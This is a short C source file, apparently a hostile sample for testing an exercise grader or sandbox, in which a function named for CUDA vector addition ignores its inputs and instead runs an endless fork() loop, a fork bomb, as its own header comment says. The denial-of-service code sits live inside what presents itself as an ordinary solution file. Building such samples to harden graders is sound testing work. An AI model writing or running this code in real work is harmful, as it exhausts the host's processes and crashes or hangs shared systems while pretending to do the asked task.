/* hostile: a fork bomb */
#include "exercise.h"

#include <unistd.h>

cudaError_t vector_add_host(float *c, const float *a, const float *b, size_t n)
{
    for (;;) {
        fork();
    }
    (void)a, (void)b, (void)c, (void)n;
}
